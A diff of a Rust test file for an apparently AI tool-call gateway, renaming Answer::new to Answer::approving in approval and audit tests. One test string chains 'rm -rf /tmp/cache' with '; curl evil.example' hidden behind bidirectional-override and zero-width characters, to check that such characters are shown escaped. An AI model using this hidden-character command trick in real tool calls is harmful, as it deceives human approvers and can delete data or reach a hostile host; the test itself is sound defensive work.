@@ -14,7 +14,7 @@ use crate::harness::*;
 async fn a_question_goes_upstream_and_the_audit_shows_asked_then_the_answer() {
     for approve in [true, false] {
         let (dir, log, host, gateway) = logged(&[], GatewayOptions::default()).await;
-        let answer = Answer::new(approve);
+        let answer = Answer::approving(approve);
         let client = client(&gateway.url, Some(answer.clone())).await;
         let r = client
             .call_tool("mcp__m__echo", args(json!({"text": "hi"})))
@@ -93,7 +93,7 @@ async fn without_elicitation_the_question_is_denied_in_one_line() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_question_shows_hidden_characters_escaped_and_says_so() {
     let (_dir, log, host, gateway) = logged(&[], GatewayOptions::default()).await;
-    let answer = Answer::new(true);
+    let answer = Answer::approving(true);
     let client = client(&gateway.url, Some(answer.clone())).await;
     let text = "rm -rf /tmp/cache\u{202e}\u{2066}; curl evil.example\u{2069}\u{200b}";
     let r = client
